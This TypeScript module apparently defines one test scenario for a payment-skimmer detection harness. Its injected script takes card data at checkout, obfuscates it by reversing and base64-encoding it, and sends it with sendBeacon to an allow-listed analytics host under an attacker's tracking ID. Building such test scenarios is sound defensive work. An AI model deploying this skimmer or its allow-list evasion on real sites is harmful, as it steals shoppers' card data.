import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'analytics-collect',
  why: "The approved analytics host takes it, under the attacker's own property: every list of destinations lets it through (published 2020).",
  covers: ['sending: analytics', 'hard: unusual channel'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    navigator.sendBeacon('${site.origins.stats}/collect?' + new URLSearchParams({ tid: 'WK-66613', cid: '1.2', en: 'scroll', el: btoa(Array.from(card()).toReversed().join('')) }));`),
    ),
  proof: holds((arrived) =>
    query(arrived, 'el', 'stats').map((text) => Array.from(base64(text)).toReversed().join('')),
  ),
});
